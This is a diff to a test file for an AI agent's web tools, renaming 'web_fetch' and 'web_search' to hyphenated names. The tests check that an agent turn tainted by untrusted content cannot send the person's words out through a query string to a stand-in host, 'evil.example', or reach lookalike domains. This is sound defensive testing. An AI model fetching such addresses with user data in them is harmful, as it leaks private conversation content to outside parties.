@@ -1,4 +1,4 @@
-"""web_fetch over real sockets: what is refused, what is followed, and that names are looked up once."""
+"""web-fetch over real sockets: what is refused, what is followed, and that names are looked up once."""
 
 from __future__ import annotations
 
@@ -52,7 +52,7 @@ def fetcher(names: Names | None = None, **more: Any) -> Fetcher:
 async def call(fetching: Fetcher, url: str, start: int = 0) -> tuple[ToolResult, dict[str, Any]]:
     tools = Toolbox(web_tools(fetcher=fetching), Gate())
     context = ToolContext("owner", lambda step: None)
-    result = await tools.call("web_fetch", json.dumps({"url": url, "start": start}), context)
+    result = await tools.call("web-fetch", json.dumps({"url": url, "start": start}), context)
     return result, json.loads(result.content)
 
 
@@ -249,7 +249,7 @@ class Engine:
 async def test_a_tainted_turn_carries_nothing_away_in_an_address_of_its_own() -> None:
     async with site(lambda _: page(HELLO)) as web:
         turn = Turn("read the page please")
-        result = await turn.call("web_fetch", url=f"http://evil.example:{web.port}/?what=the+person+said")
+        result = await turn.call("web-fetch", url=f"http://evil.example:{web.port}/?what=the+person+said")
     assert (result.ok, result.error_code) == (False, "permission_refused")
     assert turn.asked[0].detail[0] == f"url: http://evil.example:{web.port}/?what=the+person+said"
     assert web.targets == []
@@ -260,17 +260,17 @@ async def test_a_tainted_turn_reads_on_where_search_links_and_the_person_lead(mo
     async with site(lambda _: linked) as web:
         monkeypatch.setattr(Engine, "port", web.port)
         turn = Turn(f"look at page.example:{web.port}/said, and www.other.example:{web.port}.")
-        assert (await turn.call("web_search", query="x")).ok
+        assert (await turn.call("web-search", query="x")).ok
         for url in (
             "hit.example:{}/found?a=1",
             "hit.example:{}/linked?b=2",
             "page.example:{}/said",
             "other.example:{}/",
         ):
-            assert (await turn.call("web_fetch", url="http://" + url.format(web.port))).ok, url
+            assert (await turn.call("web-fetch", url="http://" + url.format(web.port))).ok, url
         assert turn.asked == []
         for url in ("hit.example:{}/found?a=2", "page.example:{}/said?x", "page.example.evil.example:{}/said"):
-            assert not (await turn.call("web_fetch", url="http://" + url.format(web.port))).ok, url
+            assert not (await turn.call("web-fetch", url="http://" + url.format(web.port))).ok, url
     assert len(turn.asked) == 3
 
 
